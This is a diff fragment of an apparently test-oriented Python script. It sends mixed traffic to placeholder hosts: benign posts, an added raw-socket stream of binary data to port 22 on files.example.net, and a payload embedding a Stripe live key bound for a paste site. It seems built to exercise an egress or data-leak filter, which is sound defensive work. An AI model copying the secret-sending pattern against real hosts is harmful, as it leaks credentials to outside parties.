@@ -26,6 +26,13 @@ post("http://paste.example.net/p", gzip.compress(json.dumps({"note": {"text": f"
      Content_Type="application/json", Content_Encoding="gzip")
 post("https://api.mistral.ai/v1/chat/completions", chat("Bonjour"), Content_Type="application/json")
 post("https://www.example.com/", b"x=1")
+with socket.create_connection(("files.example.net", 22)) as s:
+    f = s.makefile("rb")
+    s.sendall(b"SSH-2.0-OpenSSH_9.2\r\n")
+    f.readline()
+    for _ in range(20):
+        s.sendall(bytes(range(256)) * 2)
+        f.read(2048)
 first = json.dumps({"q": f"Stripe says {v['stripe_live_key']} is invalid"}).encode()
 second = b"a plain remark about the weather"
 with socket.create_connection(("paste.example.net", 80)) as s:
